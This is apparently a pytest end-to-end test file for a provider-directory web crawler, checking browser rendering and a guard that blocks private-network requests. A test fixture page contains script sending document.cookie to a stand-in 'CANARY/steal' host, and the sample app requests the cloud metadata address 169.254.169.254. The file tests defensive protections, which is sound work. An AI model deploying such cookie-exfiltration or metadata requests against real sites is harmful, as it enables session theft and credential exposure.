"""End to end: a client-rendered provider (the sample web's kestrel-point-recovery, a shell and a
script bundle) beside an ordinary one, crawled with and without a browser."""

from __future__ import annotations

import json
from pathlib import Path

import pandas as pd
import pytest

from provdir.crawl.render import chromium_path
from provdir.normalize.address import parse_address
from provdir.sampleweb.server import bundled_sites_dir, serve_sites
from tests.helpers import FAST, cli_in_process, run_cli, write_seeds

pytestmark = pytest.mark.e2e
SPA, PLAIN = "kestrel-point-recovery", "millrace-house"
# The sites are served on loopback; the tests treat loopback as public so that the private-network
# guard is on (as in a real crawl) and refuses what the app asks of 169.254.169.254.
LOOPBACK_PUBLIC = json.dumps(["127.0.0.0/8"])


@pytest.fixture(scope="module")
def two_sites():
    roots = {SPA: bundled_sites_dir() / SPA, PLAIN: bundled_sites_dir() / PLAIN}
    with serve_sites(roots, port=0, first_host=120) as urls:
        yield urls


def _crawl(two_sites, base: Path, *settings: str):
    seeds = write_seeds(base / "seeds.txt", list(two_sites.values()))
    out = base / "output"
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("PROVDIR_ALLOWED_NETWORKS", LOOPBACK_PUBLIC)
        proc = run_cli("crawl", str(seeds), "--out", str(out), *FAST, *settings)
    run = sorted((out / "runs").iterdir())[-1]
    return proc, out, run


def _site(url: str) -> str:
    return url.split("//", 1)[1].rstrip("/")


def _observations(run: Path, site: str) -> list[dict]:
    lines = (run / "observations.jsonl").read_text(encoding="utf-8").splitlines()
    return [o for o in map(json.loads, lines) if o.get("site") == site]


@pytest.fixture(scope="module")
def rendered(two_sites, tmp_path_factory):
    path = chromium_path()
    if path is None:
        pytest.skip("needs Chromium (make browser, or set PROVDIR_CHROMIUM): renders the client-rendered site")
    proc, out, run = _crawl(two_sites, tmp_path_factory.mktemp("rendered"))
    assert proc.returncode == 0, proc.stderr[-3000:]
    return proc, out, run


@pytest.fixture(scope="module")
def without_browser(two_sites, tmp_path_factory):
    base = tmp_path_factory.mktemp("no-browser")
    proc, out, run = _crawl(two_sites, base, "-s", f"PROVDIR_CHROMIUM={base / 'no-such-chromium'}")
    assert proc.returncode == 0, proc.stderr[-3000:]
    return proc, out, run


# -- with Chromium ---------------------------------------------------------------------------
def test_spa_facts_are_published_like_any_sites(rendered, two_sites, sample_facts):
    _, out, _ = rendered
    facilities = pd.read_parquet(out / "latest" / "facilities.parquet")
    rows = facilities[facilities["website"] == two_sites[SPA]]
    facts = sample_facts[SPA]
    assert len(rows) == len(facts["locations"]) == 1
    row, loc = rows.iloc[0], facts["locations"][0]
    street = parse_address(f"{loc['street']}, {loc['city']}, {loc['state']} {loc['postal_code']}").full_street
    assert (row["street"], row["city"], row["state"], row["postal_code"]) == (
        street,
        loc["city"],
        loc["state"],
        loc["postal_code"],
    )
    assert row["name"].lower().startswith(loc["name"].lower())
    assert row["phone"] == loc["phone"]
    assert set(row["phones"]) == set(facts["phones"])  # the fax and 988 are not contact phones
    assert set(row["accreditations"]) == set(facts["accreditations"])
    services = set(row["services"])
    assert set(facts["services"]) <= services
    assert not services & set(facts["not_services"])
    assert not row["needs_browser"]


def test_links_inside_the_app_are_followed_and_rendered(rendered, two_sites, sample_facts):
    _, _, run = rendered
    observations = _observations(run, _site(two_sites[SPA]))
    rendered_paths = {o["url"].split(two_sites[SPA].rstrip("/"), 1)[1] for o in observations if o["phones"]}
    # Every route of the app was reached through the links the bundle drew, and read with its facts.
    assert set(sample_facts[SPA]["in_app_pages"]) <= rendered_paths
    titles = {o["title"] for o in observations}
    assert "Services | Kestrel Point Recovery" in titles and "Contact | Kestrel Point Recovery" in titles


def test_the_apps_request_to_a_private_address_is_refused(rendered):
    proc, _, run = rendered
    stats = json.loads((run / "stats.json").read_text())
    assert stats.get("netguard/refused/browser", 0) >= 1
    assert "browser request refused (private network): http://169.254.169.254/latest/meta-data/" in proc.stderr
    # It never reached Scrapy's downloader either: the browser's guard stopped it first.
    assert not any(k.startswith("render/subrequest_refused") for k in stats)
    # The analytics beacon and the web font (other sites) and the image were not fetched.
    assert stats.get("render/aborted/third_party", 0) >= 2
    assert stats.get("render/aborted/media", 0) >= 1


def test_plain_sites_are_not_rendered(rendered, two_sites):
    _, _, run = rendered
    manifest = json.loads((run / "manifest.json").read_text())
    assert manifest["browser"]["rendering"] == "on"
    assert manifest["browser"]["sites_needing_browser"] == [_site(two_sites[SPA])]
    assert manifest["browser"]["sites_incomplete"] == []
    assert "browser" not in manifest["sites"][_site(two_sites[PLAIN])]
    spa = manifest["sites"][_site(two_sites[SPA])]["browser"]
    assert spa["pages_rendered"] == spa["pages_needing_browser"] >= 4
    assert spa["complete"] is True


# -- without a browser -----------------------------------------------------------------------
def test_without_a_browser_the_site_is_reported(without_browser, two_sites):
    proc, out, run = without_browser
    site = _site(two_sites[SPA])
    assert "NEEDS BROWSER: 1 site needs a browser: no Chromium found" in proc.stdout
    assert site in proc.stdout
    manifest = json.loads((run / "manifest.json").read_text())
    assert manifest["browser"]["rendering"] == "off"
    assert manifest["browser"]["sites_incomplete"] == [site]
    assert manifest["sites"][site]["browser"]["pages_unrendered"] >= 1
    assert manifest["sites"][site]["browser"]["complete"] is False
    stats = json.loads((run / "stats.json").read_text())
    assert stats["pages/needs_browser"] >= 1
    assert not any(k.startswith("playwright/") for k in stats)
    status = cli_in_process("status", "--out", str(out))
    assert "1 site needs a browser: no Chromium found" in status.stdout


def test_without_a_browser_the_row_says_so(without_browser, two_sites):
    _, out, _ = without_browser
    facilities = pd.read_parquet(out / "latest" / "facilities.parquet")
    spa = facilities[facilities["website"] == two_sites[SPA]]
    plain = facilities[facilities["website"] == two_sites[PLAIN]]
    assert len(spa) == 1 and bool(spa.iloc[0]["needs_browser"]) is True
    phone = spa.iloc[0]["phone"]
    assert pd.isna(phone) or phone == ""  # what the shell shows: nothing, and the row says why
    assert len(plain) == 1 and bool(plain.iloc[0]["needs_browser"]) is False


# -- the browser cannot reach a private address ----------------------------------------------
CANARY_SHELL = """<!doctype html><html><head><title>Canary Clinic</title></head><body>
<div id="root"></div>
<script>
  document.getElementById("root").innerHTML = "<h1>Canary Clinic</h1><p>Call (512) 555-0110.</p>";
  fetch("http://CANARY/steal?cookie=" + document.cookie).catch(function () {});
  var pixel = new Image(); pixel.src = "http://CANARY/pixel.gif";
  var frame = document.createElement("iframe"); frame.src = "http://CANARY/frame"; document.body.appendChild(frame);
  fetch("/data.json").then(function (r) { return r.json(); }).then(function (d) {
    document.getElementById("root").insertAdjacentHTML("beforeend", "<address>" + d.address + "</address>");
  });
</script></body></html>"""


def test_no_request_of_the_browser_reaches_a_private_address(tmp_path):
    if chromium_path() is None:
        pytest.skip("needs Chromium (make browser, or set PROVDIR_CHROMIUM): renders the page that calls out")
    hits: list[str] = []

    def canary(handler) -> bool:  # a server on a private (loopback) address that counts visits
        hits.append(handler.path)
        handler.send_response(204)
        handler.end_headers()
        return True

    (tmp_path / "canary").mkdir()
    with serve_sites({"canary": tmp_path / "canary"}, port=0, first_host=140, behaviours={"canary": canary}) as c:
        target = c["canary"].split("//", 1)[1].rstrip("/")
        site = tmp_path / "site"
        site.mkdir()
        (site / "index.html").write_text(CANARY_SHELL.replace("CANARY", target), encoding="utf-8")
        (site / "data.json").write_text(json.dumps({"address": "1200 W 6th St, Austin, TX 78703"}))
        with serve_sites({"site": site}, port=0, first_host=141) as urls:
            seeds = write_seeds(tmp_path / "seeds.txt", list(urls.values()))
            out = tmp_path / "output"
            with pytest.MonkeyPatch.context() as mp:
                # Only the site's own address counts as public: the canary's is private.
                mp.setenv("PROVDIR_ALLOWED_NETWORKS", json.dumps(["127.0.0.141/32"]))
                proc = run_cli("crawl", str(seeds), "--out", str(out), *FAST)
    assert proc.returncode == 0, proc.stderr[-3000:]
    assert hits == []  # nothing ever connected to the private address
    run = sorted((out / "runs").iterdir())[-1]
    stats = json.loads((run / "stats.json").read_text())
    assert stats["netguard/refused/browser"] >= 2  # the fetch and the iframe (the image is refused or aborted)
    facilities = pd.read_parquet(out / "latest" / "facilities.parquet")
    row = facilities.iloc[0]
    # The page's own data request went through Scrapy's downloader and was mounted.
    assert (row["phone"], row["postal_code"]) == ("+15125550110", "78703")


def test_a_browser_that_does_not_start_is_reported_not_fatal(two_sites, tmp_path):
    broken = tmp_path / "chromium"
    broken.write_text("#!/bin/sh\necho 'error while loading shared libraries' >&2\nexit 127\n")
    broken.chmod(0o755)
    proc, out, run = _crawl(two_sites, tmp_path, "-s", f"PROVDIR_CHROMIUM={broken}")
    assert proc.returncode == 0, proc.stderr[-3000:]
    assert "1 site needs a browser: the browser could not be started" in proc.stdout
    manifest = json.loads((run / "manifest.json").read_text())
    assert manifest["browser"]["sites_incomplete"] == [_site(two_sites[SPA])]
    facilities = pd.read_parquet(out / "latest" / "facilities.parquet")
    assert facilities[facilities["website"] == two_sites[PLAIN]]["phone"].iloc[0] == "+15735550137"
    assert bool(facilities[facilities["website"] == two_sites[SPA]]["needs_browser"].iloc[0]) is True
